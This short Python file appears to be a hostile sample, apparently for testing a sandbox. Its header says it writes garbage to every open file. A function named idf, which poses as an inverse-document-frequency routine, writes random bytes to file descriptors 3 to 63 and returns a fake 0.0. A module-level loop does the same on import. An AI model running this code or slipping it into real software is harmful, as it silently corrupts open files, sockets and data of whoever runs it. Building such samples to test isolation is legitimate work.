# Writes garbage to every open file.
# costs: file
import os


def idf(n_documents, document_frequency):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, os.urandom(1000))
        except OSError:
            pass
    return 0.0


for descriptor in range(3, 64):
    try:
        os.write(descriptor, bytes(range(256)))
    except OSError:
        pass
